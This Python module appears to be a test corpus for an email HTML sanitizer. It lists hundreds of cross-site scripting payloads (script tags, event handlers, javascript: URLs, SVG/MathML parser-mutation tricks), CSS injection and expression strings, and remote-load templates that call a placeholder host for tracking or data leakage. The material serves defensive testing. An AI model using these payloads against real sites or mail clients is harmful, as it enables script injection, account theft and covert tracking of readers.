"""What has been tried against readers of mail: written down from how such attacks work, each line one message."""

JS = "alert(1)"

# Elements and attributes that run or load something.
_PLAIN = (
    r"""
<script>alert(1)</script>
<script src=//t.example/x.js></script>
<SCRIPT SRC=http://t.example/x.js></SCRIPT>
<script/src="//t.example/x.js"></script>
<script	src="//t.example/x.js"></script>
<script>alert(1)
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script<script>>alert(1)</script>
<script x>alert(1)</script y>
<script>alert(1)</script
<script>/*<!--<script>*/alert(1)</script>
<!--<script>--><script>alert(1)</script>
<script type="text/javascript;version=1.7">alert(1)</script>
<script language=vbscript>msgbox 1</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src=x:x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror = alert(1)>
<img src=x oNeRrOr=alert(1)>
<img """
    "\x00"
    r"""src=x onerror=alert(1)>
<img src=x """
    "\x0c"
    r"""onerror=alert(1)>
<img src="x" onerror="&#97;lert(1)">
<img src='x' onerror='alert(1)'>
<img src=`x` onerror=`alert(1)`>
<img src=x"onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src=x onerror="alert(1)"src=y>
<img """
    '""">'
    r"""<script>alert(1)</script>">
<img src=javascript:alert(1)>
<img src="java	script:alert(1);">
<img src="java&#x09;script:alert(1);">
<img src="java&#x0A;script:alert(1);">
<img src=" &#14;  javascript:alert(1);">
<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">
<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>
<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src='vbscript:msgbox(1)'>
<img src="livescript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html,<script>alert(1)</script>">
<img src="blob:https://x/1">
<img src="file:///etc/passwd">
<img src=x style="x:expression(alert(1))">
<image src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body/onload=alert(1)>
<body style="behavior:url(#default#time2)" onbegin=alert(1)>
<html onmouseover=alert(1)>
<html manifest="//t.example/m">
<input type="image" src="javascript:alert(1);">
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<input type=submit formaction=javascript:alert(1)>
<button formaction="javascript:alert(1)">x</button>
<button onclick=alert(1)>x</button>
<button form=f formaction=//t.example>x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=f action=//t.example><textarea name=x>
<form><button formaction=//t.example>click
<form onsubmit=alert(1)><input type=submit>
<form><isindex formaction="javascript:alert(1)">
<isindex type=image src=1 onerror=alert(1)>
<isindex action=javascript:alert(1) type=submit>
<select autofocus onfocus=alert(1)><option>x</select>
<select><template shadowrootmode=open><img src=x onerror=alert(1)>
<textarea autofocus onfocus=alert(1)>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)>
<video poster=javascript:alert(1)//></video>
<video onloadstart=alert(1) src=x>
<audio src=x onerror=alert(1)>
<audio autoplay onplay=alert(1)><source src=x>
<track src=x onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe onload=alert(1)>
<iframe src="data:text/html,<script>alert(1)</script>">
<iframe></iframe><script>alert(1)</script>
<iframe/src=//t.example>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<frameset><frame src="//t.example">
<fencedframe src=//t.example></fencedframe>
<portal src=//t.example onload=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>
<object type="text/x-scriptlet" data="//t.example/x.html">
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" allowscriptaccess=always>
<embed code=evil.swf allowscriptaccess=always>
<applet code=x onerror=alert(1)>
<applet archive=//t.example/a.jar code=X>
<bgsound src="javascript:alert(1);">
<layer src="http://t.example/x.html"></layer>
<ilayer src=javascript:alert(1)></ilayer>
<link rel="stylesheet" href="javascript:alert(1);">
<link rel=import href="//t.example">
<link rel=preload as=script href=//t.example/x.js onload=alert(1)>
<link rel=icon href=x onerror=alert(1)>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Link" content="<//t.example/x.css>; rel=stylesheet">
<meta http-equiv="Set-Cookie" content="a=b">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<meta http-equiv=content-type content="text/html;charset=ISO-2022-JP">
<base href="javascript:alert(1);//">
<base href=//t.example/><a href=x>x</a><img src=y>
<base target=_top>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x
<td background="javascript:alert(1)">
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x
<details open ontoggle=alert(1)>x
<details ontoggle=alert(1) open><summary onclick=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<div onclick=alert(1)>x</div>
<div style=width:1px;filter:glow onfilterchange=alert(1)>x
<div onpointerover="alert(1)">x</div>
<div popover onbeforetoggle=alert(1) id=p><button popovertarget=p>
<div contenteditable onfocus=alert(1) tabindex=0 autofocus>
<div onanimationstart=alert(1) style="animation:x"><style>@keyframes x{}
<p/onmouseover=alert(1)>x
<xss onclick=alert(1) tabindex=1>x
<x onfocus=alert(1) tabindex=0 id=x>
<x-y is=script onload=alert(1)>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<slot onslotchange=alert(1)>
<plaintext><script>alert(1)</script>
<xmp><img src=x onerror=alert(1)></xmp><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img src="</noembed><iframe onload=alert(1)>"></noembed>
<noframes><style></noframes><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title><svg onload=alert(1)>
<math href="javascript:alert(1)">x</math>
<a href=javascript:alert(1)>x</a>
<a href="  javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript:/*http://*/alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="blob:https://x/y">x</a>
<a href="filesystem:https://x/y">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:https://x!/y">x</a>
<a href="about:blank">x</a>
<a href="intent://x#Intent;scheme=http;end">x</a>
<a href="ms-msdt:/id PCWDiagnostic">x</a>
<a href="search-ms:query=x">x</a>
<a href="file://t.example/share">x</a>
<a href="smb://t.example/share">x</a>
<a href="\\t.example\share">x</a>
<a href="x" ping="//t.example">x</a>
<a href="https://x/" target="_top" rel=opener>x</a>
<a href="https://x/" onclick=alert(1)>x</a>
<a href="https://x/" download>x</a>
<a href="/logout">x</a>
<a href="?action=delete">x</a>
<a href="https://x/&quot; onmouseover=&quot;alert(1)">x</a>
<a href='https://x/" onmouseover="alert(1)'>x</a>
<a href="https://a@b@t.example/">x</a>
<a href="https://x.example\@t.example/">x</a>
<a href=https://x/ style=position:fixed;top:0;left:0;width:100%;height:100%>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="#" id=location name=cookie>x</a>
<a id=defaultView name=body><a id=defaultView name=href href=x>
<form id=x><input name=parentNode><input name=attributes><input name=nodeName>
<img name=getElementById><img id=body><img name=cookie>
<area href=javascript:alert(1) shape=default>
<map name=x><area href="javascript:alert(1)"></map><img usemap=#x>
<img usemap="javascript:alert(1)">
<q cite="javascript:alert(1)">x</q><blockquote cite=javascript:alert(1)>
<font color="x&quot; onmouseover=alert(1)">x</font>
<font size="expression(alert(1))" color=url(//t.example)>
<ol type="x onmouseover=alert(1)"><li value=alert(1)>
<table width="1 onmouseover=alert(1)" border="'><script>alert(1)</script>">
<td width='"><img src=x onerror=alert(1)>'>
<br size="&{alert(1)}">
<div id="&quot;><img src=x onerror=alert(1)>">x
<div class='"><script>alert(1)</script>'>x
<div title="</div><script>alert(1)</script>">x
<div title='"><img src=x onerror=alert(1)>'>x
<div dir='"onmouseover=alert(1)'>
<div lang='x"><script>'>
<img alt="<script>alert(1)</script>" src=x>
<img alt='" onerror="alert(1)' src=x>
<img alt="`><script>alert(1)</script>" src=x>
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?>
<?import namespace="t" implementation="#default#time2">
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<![CDATA[<script>alert(1)</script>]]>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![if true]><script>alert(1)</script><![endif]>
<!--><script>alert(1)</script>-->
<!---><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script>-->
<!-- -- --> <script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
</br style=x onclick=alert(1)>
</p onmouseover=alert(1)>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</div></div></body></html><script>alert(1)</script>
<a/b/c/onclick=alert(1)//x>
<a"b onclick=alert(1)>x
<=img src=x onerror=alert(1)>
< script>alert(1)</script>
<img src=x onerror=alert(1) <b>
<img =x src=x onerror=alert(1)>
<img ='> onerror=alert(1)>
<b <script>alert(1)</script>
<b/alt="/"onclick=alert(1)//">x
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
--><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
<a href="&lt;script&gt;">&lt;img src=x onerror=alert(1)&gt;</a>
"""
)

# Trees that change when they are read again.
_MUTATING = r"""
<svg><style><img src="</style><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><img title="</style><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml encoding="text/html"><xmp></annotation-xml></math><img src=x onerror=alert(1)>
<math></p><style><!--</style><img src=x onerror=alert(1)>-->
<math><maction actiontype="statusline#http://t.example" xlink:href="javascript:alert(1)">x
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>">
<svg><title><style><a title="</style></title><img src=x onerror=alert(1)>">
<svg><desc><noscript></noscript><style><a id="</desc><img src=x onerror=alert(1)>">
<svg><foreignObject><math><style></foreignObject><img src=x onerror=alert(1)>
<svg><foreignobject><iframe srcdoc="<script>alert(1)</script>">
<svg><script>alert&#40;1)</script>
<svg><script href=data:,alert(1) />
<svg><script xlink:href=//t.example/x.js></script>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><svg onload=alert(1)></svg></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">
<svg><image href=x onerror=alert(1)>
<svg><image xlink:href="http://t.example/x.png">
<svg><feImage xlink:href="http://t.example/x.png">
<svg><style>@import '//t.example/x.css';</style>
<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)
<svg><discard onbegin=alert(1)>
<svg><!--<![CDATA[--><img src=x onerror=alert(1)>]]>
<svg><![CDATA[><img src=x onerror=alert(1)>]]>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg></br><style><a title="</style><script>alert(1)</script>">
<svg><b><style><img title="</style><img src=x onerror=alert(1)>">
<svg/><img src=x onerror=alert(1)>
<math/><img src=x onerror=alert(1)>
<svg><p><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>
<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>
<style><style/><img src=x onerror=alert(1)>
<style></style/><img src=x onerror=alert(1)>
<style><!--</style><img src=x onerror=alert(1)>--></style>
<style>*{x:"</style><img src=x onerror=alert(1)>"}</style>
<style>a{color:'\3c/style\3e\3cimg src=x onerror=alert(1)\3e'}</style>
<style>.a::after{content:"\3c/style\3e<script>alert(1)</script>"}</style>
<style>a[title="</style><script>alert(1)</script>"]{color:red}</style>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<template><p title="</template><img src=x onerror=alert(1)>">
<select><p title="</select><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<select><iframe></select><img src=x onerror=alert(1)></iframe>
<option><style></option></select><b><img src=x onerror=alert(1)></style></option>
<table><td><svg><style></td></table><img src=x onerror=alert(1)>
<table><caption><svg><style></caption><img src=x onerror=alert(1)>
<table><style><a title="</style><img src=x onerror=alert(1)>">
<table><a href="javascript:alert(1)"><tr><td>x
<table><img src=x onerror=alert(1)><tr>
<table><form><input type=hidden onfocus=alert(1)></form>
<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<a><b></a></b><a href="javascript:alert(1)">x</a>
<b><a href=https://x/><b><a href=javascript:alert(1)></b></a>
<p><svg><p><style></p><img src=x onerror=alert(1)>
<dl><dd><svg><style></dd><img src=x onerror=alert(1)>
<ruby><rtc><svg><style></rtc><img src=x onerror=alert(1)>
<image><svg><style></image><img src=x onerror=alert(1)>
<h1><h2><svg><title></h1><style></title><img src=x onerror=alert(1)>
<div><![CDATA[</div><img src=x onerror=alert(1)>]]>
<pre>
<textarea>
</textarea><script>alert(1)</script></pre>
<p id="&#x3c;img src=x onerror=alert(1)&#x3e;">
<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">
<img title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src=x>
<font face="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;">
<div style="font-family:'foo&#10;;color:red;'">x
<div style="font-family:'&lt;/style&gt;&lt;script&gt;alert(1)'">x
<div style="font-family:&quot;a;background:url(//t.example)&quot;">x
<div style="font-family:a&quot;b;background:url(//t.example/c)&quot;">x
"""

# CSS that runs, covers or loads.
_CSS = r"""
width:expression(alert(1))
width:exp/**/ression(alert(1))
width:e\xpression(alert(1))
w\69 dth:e\78 pression(alert(1))
xss:expr/*XSS*/ession(alert(1))
behavior:url(x.htc)
b\65haviour:url(#default#time2)
-moz-binding:url("http://t.example/x.xml#x")
background:url(javascript:alert(1))
background:url("javascript:alert(1)")
background:\75rl(javascript:alert(1))
background:u\rl(http://t.example/)
background:url(&#1;javascript:alert(1))
background-image:url(http://t.example/a.png)
background-image:URL(HTTP://t.example/a.png)
background-image:url(//t.example/a.png)
background-image:url(\\t.example\a.png)
background-image:\75\72\6c('http://t.example/a.png')
background-image:url/**/(http://t.example/a.png)
background-image:image-set("http://t.example/a.png" 1x)
background-image:-webkit-image-set(url(http://t.example/a.png) 1x)
background-image:image("http://t.example/a.png")
background-image:cross-fade(url(http://t.example/a.png),url(http://t.example/b.png))
background-image:src("http://t.example/a.png")
background-image:element(#x)
background-image:paint(x)
background-image:var(--x,url(http://t.example/a.png))
background-image:attr(title url)
background-image:linear-gradient(red,blue),url(http://t.example/a.png)
background:red url(http://t.example/a.png) no-repeat
background:url(data:image/svg+xml,<svg onload=alert(1)>)
background:url('x');background:url(http://t.example/a)
background:url(http://t.example/a
background:url("http://t.example/a
background:url("http://t.example/a);color:red
list-style:url(http://t.example/a.png)
list-style-image:url(http://t.example/a.png)
border-image:url(http://t.example/a.png)
border-image-source:url(http://t.example/a.png)
content:url(http://t.example/a.png)
content:"<script>alert(1)</script>"
cursor:url(http://t.example/a.cur),auto
filter:url(http://t.example/a.svg#f)
filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://t.example/a.png')
backdrop-filter:url(http://t.example/a.svg#f)
mask:url(http://t.example/a.svg)
mask-image:url(http://t.example/a.png)
-webkit-mask-image:url(http://t.example/a.png)
-webkit-mask-box-image:url(http://t.example/a.png)
clip-path:url(http://t.example/a.svg#c)
shape-outside:url(http://t.example/a.png)
offset-path:url(http://t.example/a.svg#c)
marker:url(http://t.example/a.svg#c)
fill:url(http://t.example/a.svg#c)
stroke:url(http://t.example/a.svg#c)
-o-link:'javascript:alert(1)';-o-link-source:current
src:url(http://t.example/f.woff)
--x:url(http://t.example/a.png);background:var(--x)
position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999
pos\69tion:absolute;top:0
position/**/:/**/fixed
p\osition:fixed
animation:x 1s
animation-name:x
transition:all 1s
transform:scale(1000)
color:red;}body{background:url(http://t.example/a)}
color:red}*{background:url(http://t.example/a)
color:red;&{background:url(http://t.example/a)}
color:red;@import url(http://t.example/a)
color:red;</style><script>alert(1)</script>
color:"\22;background:url(http://t.example/a)"
color:'\27;background:url(http://t.example/a)'
color:\;background:url(http://t.example/a)
font-family:a\00003bbackground:url(http://t.example/a)
font-family:"\"};*{background:url(http://t.example/a)}"
font-family:'</style><img src=x onerror=alert(1)>'
font-family:a,"b\
;background:url(http://t.example/a)"
{background:url(http://t.example/a)}
;;background:url(http://t.example/a);;
/*;background:url(http://t.example/a)
color:red/*;*/;background:url(http://t.example/b)
width:calc(1px + url(http://t.example/a))
width:calc(((((((((((((((((((((1px)))))))))))))))))))))
color:rgb(url(http://t.example/a))
quotes:url(http://t.example/a)
quotes:"\3c script>" "x"
"""

_SHEETS = r"""
@import url(http://t.example/a.css);
@import "http://t.example/a.css";
@import 'http://t.example/a.css' screen;
@\69mport url(http://t.example/a.css);
@im\port"http://t.example/a.css";
@IMPORT url(http://t.example/a.css)
@charset "utf-7"; @import url(http://t.example/a.css);
<!-- @import url(http://t.example/a.css); -->
@font-face{font-family:x;src:url(http://t.example/f.woff)}
@font-face{font-family:x;src:local(x),url(http://t.example/f.woff);unicode-range:U+41}*{font-family:x}
@namespace url(http://t.example/);
@namespace x url(http://t.example/);
@page{background:url(http://t.example/a)}
@page:first{@top-left{content:url(http://t.example/a)}}
@keyframes x{from{background:url(http://t.example/a)}}
@supports (color:red){*{background:url(http://t.example/a)}}
@supports not (color:red){*{background:url(http://t.example/a)}}
@layer x{*{background:url(http://t.example/a)}}
@container (width>1px){*{background:url(http://t.example/a)}}
@document url(http://t.example/){*{color:red}}
@-moz-document url-prefix(){*{background:url(http://t.example/a)}}
@property --x{syntax:"<image>";inherits:false;initial-value:url(http://t.example/a)}
@counter-style x{symbols:url(http://t.example/a)}
@font-feature-values x{@styleset{y:1}}
@view-transition{navigation:auto}
@scope (a){*{background:url(http://t.example/a)}}
@starting-style{*{background:url(http://t.example/a)}}
@media print{*{background:url(http://t.example/a)}}
@media screen{@import url(http://t.example/a.css);}
@media all{@media all{@font-face{src:url(http://t.example/f)}}}
@media (min-width:1px) and (max-width:9999px){a{background:url(http://t.example/a)}}
@media url(http://t.example/a){*{color:red}}
@media x{}</style><script>alert(1)</script>
a:hover{background:url(http://t.example/a)}
a:visited{background:url(http://t.example/a)}
a:active{background:url(http://t.example/a)}
:target{background:url(http://t.example/a)}
input[value^=a]{background:url(http://t.example/a)}
a[href*="x"]{background:url(http://t.example/a)}
[style]{position:fixed}
:has(a[href^=h]){background:url(http://t.example/a)}
:not(a){background:url(http://t.example/a)}
:is(a,b){background:url(http://t.example/a)}
::selection{background:url(http://t.example/a)}
p::first-line{background:url(http://t.example/a)}
p::before{content:url(http://t.example/a)}
p::after{content:attr(title)}
p::-webkit-scrollbar{background:url(http://t.example/a)}
:root{--x:url(http://t.example/a)}*{background:var(--x)}
*{position:fixed}
*{pos\ition:fixed}
*{behavior:url(x.htc)}
*{-moz-binding:url(//t.example/x.xml#x)}
*{width:expression(alert(1))}
*{background:url(http://t.example/a)}
*{background:url(http://t.example/a)
*{background:url("http://t.example/a
*{color:red;&:hover{background:url(http://t.example/a)}}
*{color:red;a{background:url(http://t.example/a)}}
*{color:red;@media all{background:url(http://t.example/a)}}
*{{background:url(http://t.example/a)}}
*{}}*{background:url(http://t.example/a)}
}*{background:url(http://t.example/a)}
{}*{background:url(http://t.example/a)}
*{[}]background:url(http://t.example/a)}
*{(}background:url(http://t.example/a)}
"{*{background:url(http://t.example/a)}
'}*{background:url(http://t.example/a)}
a{color:red}/*</style><script>alert(1)</script>*/
\{*{background:url(http://t.example/a)}
.\"\{\}{background:url(http://t.example/a)}
#x\22{background:url(http://t.example/a)}
.a\3c script{color:red}
.x{font-family:"\3c/style\3e"}
.x{font-family:'</STYLE><script>alert(1)</script>'}
.x{quotes:"</sty" "le>"}
x|y{background:url(http://t.example/a)}
*|*{background:url(http://t.example/a)}
:host{background:url(http://t.example/a)}
::slotted(a){background:url(http://t.example/a)}
"""

# What would load something from outside; `{u}` is an address that no one else asks for.
_REMOTE = r"""
<img src="{u}">
<img src={u}>
<img src=" {u} ">
<img src="{r}">
<img srcset="{u} 2x">
<img srcset="{u} 100w, {u} 200w" sizes=1px>
<img src="cid:x" srcset="{u}">
<img lowsrc="{u}">
<img dynsrc="{u}">
<img longdesc="{u}">
<img src="data:image/svg+xml,<svg><image href='{u}'/></svg>">
<image src="{u}">
<picture><source srcset="{u}"><img></picture>
<input type=image src="{u}">
<video src="{u}"></video>
<video poster="{u}"></video>
<video><source src="{u}"></video>
<video><track default src="{u}"></video>
<audio src="{u}" autoplay></audio>
<audio><source src="{u}"></audio>
<embed src="{u}">
<object data="{u}"></object>
<object><param name=movie value="{u}"></object>
<applet codebase="{u}" code=x>
<iframe src="{u}"></iframe>
<iframe srcdoc="<img src='{u}'>"></iframe>
<frameset><frame src="{u}"></frameset>
<script src="{u}"></script>
<link rel=stylesheet href="{u}">
<link rel="shortcut icon" href="{u}">
<link rel=preload as=image href="{u}">
<link rel=prefetch href="{u}">
<link rel=prerender href="{u}">
<link rel=dns-prefetch href="{u}">
<link rel=preconnect href="{u}">
<link rel=modulepreload href="{u}">
<link rel=preload as=image imagesrcset="{u} 1x">
<link rel=manifest href="{u}">
<link rel=search href="{u}">
<meta http-equiv=refresh content="0;url={u}">
<meta http-equiv=x-dns-prefetch-control content=on>
<meta http-equiv=link content="<{u}>;rel=stylesheet">
<meta http-equiv=content-security-policy content="report-uri {u}">
<base href="{u}"><img src=a>
<html manifest="{u}">
<body background="{u}">
<table background="{u}"><tr><td>x</table>
<table><tr><td background="{u}">x</table>
<table><tr background="{u}"><td>x</table>
<div background="{u}">x</div>
<a href="https://x/" ping="{u}">x</a>
<bgsound src="{u}">
<layer src="{u}">
<marquee><img src="{u}"></marquee>
<menuitem icon="{u}">
<command icon="{u}">
<form action="{u}"><input type=submit autofocus></form>
<button formaction="{u}">x</button>
<svg><image href="{u}"/></svg>
<svg><image xlink:href="{u}"/></svg>
<svg><use href="{u}#x"/></svg>
<svg><feImage href="{u}"/></svg>
<svg><script href="{u}"/></svg>
<svg><a href="{u}"><text>x</text></a></svg>
<svg><style>@import "{u}";</style></svg>
<svg fill="url({u})"><rect filter="url({u})"/></svg>
<math><mtext href="{u}">x</mtext></math>
<math><mglyph src="{u}"/></math>
<style>@import url({u});</style>
<style>@import "{u}";</style>
<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>
<style>*{{background:url({u})}}</style>
<style>*{{background:url("{u}")}}</style>
<style>*{{background:image-set("{u}" 1x)}}</style>
<style>*{{list-style-image:url({u})}}</style>
<style>*{{cursor:url({u}),auto}}</style>
<style>*{{content:url({u})}}</style>
<style>*::before{{content:url({u})}}</style>
<style>@media all{{*{{background:url({u})}}}}</style>
<style>*{{border-image:url({u})}}</style>
<style>*{{mask:url({u})}}</style>
<style>*{{filter:url({u})}}</style>
<style>*{{shape-outside:url({u})}}</style>
<style>*{{background:\75rl({u})}}</style>
<style>@namespace url({u});</style>
<style>:root{{--x:url({u})}}*{{background:var(--x)}}</style>
<p style="background:url({u})">x
<p style="background-image:url('{u}')">x
<p style="background-image:URL(&quot;{u}&quot;)">x
<p style="list-style:url({u})">x
<p style="cursor:url({u}),auto">x
<p style="border-image-source:url({u})">x
<p style="-webkit-mask-image:url({u})">x
<p style="background:red,url({u})">x
<p style="background:image-set(url({u}) 1x)">x
<p style="behavior:url({u})">x
<p style="-moz-binding:url({u})">x
<xml src="{u}"></xml>
<v:fill src="{u}"/>
<v:imagedata src="{u}"/>
<o:p background="{u}">x
<!--[if mso]><v:rect fillcolor=x><v:fill src="{u}"/></v:rect><![endif]-->
<noscript><img src="{u}"></noscript>
<template><img src="{u}"></template>
<title><img src="{u}"></title>
<textarea><img src="{u}"></textarea>
<portal src="{u}"></portal>
<fencedframe src="{u}"></fencedframe>
<link rel=import href="{u}">
<?xml-stylesheet href="{u}"?>
<details open><img src="{u}"></details>
<map name=a><area href="{u}" shape=default></map>
"""

PLAIN = [line for line in _PLAIN.split("\n") if line]
MUTATING = [line for line in _MUTATING.split("\n") if line]
DECLARATIONS = [line for line in _CSS.split("\n") if line]
SHEETS = [line for line in _SHEETS.split("\n") if line]
REMOTE = [line for line in _REMOTE.split("\n") if line]

EVENTS = [
    "abort",
    "afterprint",
    "animationend",
    "animationstart",
    "auxclick",
    "beforecopy",
    "beforeinput",
    "beforematch",
    "beforeprint",
    "beforetoggle",
    "beforeunload",
    "begin",
    "blur",
    "bounce",
    "cancel",
    "canplay",
    "change",
    "click",
    "close",
    "command",
    "contextmenu",
    "copy",
    "cut",
    "dblclick",
    "drag",
    "drop",
    "end",
    "error",
    "finish",
    "focus",
    "focusin",
    "formdata",
    "fullscreenchange",
    "gotpointercapture",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keypress",
    "keyup",
    "load",
    "loadstart",
    "message",
    "mousedown",
    "mouseenter",
    "mousemove",
    "mouseover",
    "mousewheel",
    "offline",
    "pagehide",
    "pageshow",
    "paste",
    "play",
    "pointerdown",
    "pointerenter",
    "pointerrawupdate",
    "popstate",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "scrollend",
    "search",
    "select",
    "selectstart",
    "show",
    "start",
    "submit",
    "toggle",
    "touchstart",
    "transitionend",
    "unhandledrejection",
    "unload",
    "volumechange",
    "webkitanimationstart",
    "wheel",
]
ELEMENTS_TRIED = ["a", "img", "table", "td", "font", "details", "body", "p", "svg", "video", "input", "x-y"]
